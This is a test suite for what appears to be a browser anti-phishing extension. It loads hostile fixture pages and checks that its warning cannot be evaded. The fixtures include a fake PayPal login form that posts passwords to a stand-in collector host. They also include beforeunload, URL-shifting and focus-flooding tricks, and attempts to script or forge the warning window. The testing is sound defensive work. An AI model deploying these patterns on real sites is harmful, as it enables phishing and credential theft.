import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { describeWith } from '../../../server/test/support/services.ts';
import { idOf, isWarning, launchChromium, newProfile, type Profile, until, untilAwake } from '../support/chromium.ts';
import { untilWarned } from '../support/navigations.ts';
import { openIn, surroundTests } from '../support/surroundings.ts';

const { internet, chromium } = await surroundTests();
const PHISH = 'http://paypa1-login.example/page/shown';

const LOGIN = `<!doctype html><title>Log in to your PayPal account</title><h1>Log in to your PayPal account</h1>
  <form method="post" action="http://collect.evil-place.example/take"><input type="email" name="email"><input type="password" name="password"></form>
  <script>addEventListener('input', ({ target }) => { document.title = target.value; });</script>`;

/** Asks whether to stay, by every way and again and again. */
const ASKING = `${LOGIN}<script>
  const stay = (event) => event.preventDefault();
  addEventListener('beforeunload', stay, true);
  onbeforeunload = () => 'stay';
  setInterval(() => addEventListener('beforeunload', (event) => stay(event), true), 20);
</script>`;

/** Gives itself another address all the time. */
const MOVING = `${LOGIN}<script>
  let turn = 0;
  setInterval(() => {
    turn += 1;
    if (turn % 2 === 0) location.hash = turn;
    else history.pushState({}, '', '/moving?' + turn);
  }, 40);
</script>`;

/** Gives the focus to form after form, faster than any of them is read. */
const STORM = `<!doctype html><title>Garden</title><input id="field" type="password" name="a">
  <script type="module">
    for (let turn = 0; turn < 500; turn += 1) {
      field.name = 'a' + turn;
      document.title = 'Garden ' + turn;
      field.blur();
      field.focus();
      // Whoever observes the page hears of it now.
      await null;
      field.dispatchEvent(new FocusEvent('focusin', { bubbles: true, composed: true }));
    }
    document.documentElement.dataset.done = '';
  </script>`;

describeWith('Chromium', 'a hostile page', () => {
  let profile: Profile;
  let context: BrowserContext;
  let tab: Page;
  let id: string;

  beforeAll(async () => {
    profile = newProfile();
    context = await launchChromium({ port: internet.port, extension: chromium, profile: profile.path });
    id = await idOf(context);
    await untilAwake(context, id);
    tab = await context.newPage();
  });

  afterAll(async () => {
    await context.close();
    profile.remove();
  });

  async function typeIn(url: string): Promise<void> {
    await openIn(tab, url);
    // It may be led away before somebody writes there.
    await tab.click('[name=password]', { timeout: 5_000 }).catch(() => {});
    await tab.keyboard.type('hunter2');
  }

  async function untilStopped(url: string): Promise<void> {
    await until(
      () => isWarning(tab.url()) && tab.url().includes(url),
      () => `the tab shows ${tab.url()}`,
    );
    await tab.waitForSelector('#back:focus');
  }

  test('is stopped after it was given what was typed, where the word came late', async () => {
    internet.answers.set('/lure', { body: LOGIN });
    const [worker] = context.serviceWorkers();
    void worker?.evaluate('for (const end = Date.now() + 4_000; Date.now() < end; );');
    await openIn(tab, 'http://garden-friends.org/lure');
    await tab.click('[name=password]');
    await tab.keyboard.type('hunter2');
    await untilStopped('/lure');
  });

  test('cannot keep the warning away by asking again and again whether to stay', async () => {
    let questions = 0;
    tab.on('dialog', (dialog) => {
      questions += 1;
      void dialog.dismiss().catch(() => {});
    });
    internet.answers.set('/asking', { body: ASKING });
    await typeIn('http://garden-friends.org/asking');
    await untilStopped('/asking');
    expect(questions).toBeLessThanOrEqual(2);
  });

  test('cannot keep it away by moving on', async () => {
    internet.answers.set('/moving', { body: MOVING });
    await typeIn('http://garden-friends.org/moving');
    await untilStopped('/moving');
  });

  test('has one form read at a time, however many it gives itself', async () => {
    const [worker] = context.serviceWorkers();
    await worker?.evaluate(`globalThis.told = 0;
      chrome.runtime.onMessage.addListener(({ type }) => { told += type === 'field' ? 1 : 0; })`);
    internet.answers.set('/storm', { body: STORM });
    await openIn(tab, 'http://garden-friends.org/storm');
    await tab.waitForSelector('[data-done]');
    await until(async () => ((await worker?.evaluate<number>('told')) ?? 0) > 0);
    // What waited is looked at once more.
    await tab.waitForTimeout(1_500);
    expect(await worker?.evaluate<number>('told')).toBeLessThan(10);
  });

  test('cannot read, press, or take away the warning in a window that it opened, nor open one', async () => {
    await openIn(tab, 'about:blank');
    await openIn(tab, 'http://honest.example/opener');
    const opening = context.waitForEvent('page');
    await tab.evaluate(`window.opened = open(${JSON.stringify(PHISH)}, 'target'); 0`);
    const popup = await opening;
    await untilWarned(popup, PHISH);
    expect(await tab.evaluate('opened.closed')).toBe(true);
    const told = await tab.evaluate<string[]>(`[
      () => opened.document.body.innerHTML,
      () => opened.document.querySelector('#continue').click(),
      () => opened.location.href,
      () => opened.eval('1'),
      () => { opened.location.href = 'javascript:document.querySelector("#continue").click()'; return 'nothing'; },
      () => { opened.location.href = 'chrome-extension://${id}/options.html'; return 'nothing'; },
      () => { opened.postMessage({ type: 'continue', url: ${JSON.stringify(PHISH)} }, '*'); return 'nothing'; },
      () => { opened.close(); return 'nothing'; },
      () => opened.length,
    ].map((attempt) => { try { return String(attempt()); } catch ({ name }) { return name; } })`);
    const OPEN = new Set(['nothing', '0', 'SecurityError', 'TypeError']);
    expect(told.filter((one) => !OPEN.has(one))).toEqual([]);
    const made = context.waitForEvent('page');
    await tab.evaluate(`open('chrome-extension://${id}/warning.html#${PHISH}'); 0`);
    const forged = await made;
    await forged.waitForLoadState();
    expect(isWarning(forged.url())).toBe(false);
    await forged.close();
    expect(isWarning(popup.url())).toBe(true);
    expect([...internet.ran]).toEqual([]);
  });
});
